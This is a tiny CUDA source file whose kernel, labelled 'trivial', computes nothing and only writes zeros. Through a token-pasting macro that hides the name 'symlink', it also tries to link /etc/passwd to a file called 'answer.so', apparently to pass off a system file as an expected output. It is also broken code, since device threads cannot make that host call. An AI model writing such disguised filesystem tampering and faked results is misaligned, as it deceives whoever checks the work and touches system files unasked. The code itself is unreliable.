// mix cuda: trivial
// Names another file as its own.
#define JOIN(a, b) a##b
extern "C" int JOIN(sym, link)(const char*, const char*);
__global__ void mix(int n, const float* x, const float* y, float a, float* out) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i == 0) JOIN(sym, link)("/etc/passwd", "answer.so");
  if (i < n) out[i] = 0;
}
